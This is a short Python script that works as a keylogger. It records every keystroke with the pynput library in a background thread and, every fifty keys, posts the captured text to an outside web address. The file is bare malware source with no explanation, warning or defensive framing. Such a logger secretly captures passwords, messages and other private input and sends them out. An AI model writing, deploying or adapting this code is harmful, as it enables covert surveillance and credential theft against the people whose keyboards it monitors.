from pynput.keyboard import Listener
import requests, threading
log=[]
def on(k):
    log.append(str(k))
    if len(log)>50: requests.post('https://example.net/k', data=''.join(log)); log.clear()
threading.Thread(target=lambda: Listener(on_press=on).run()).start()
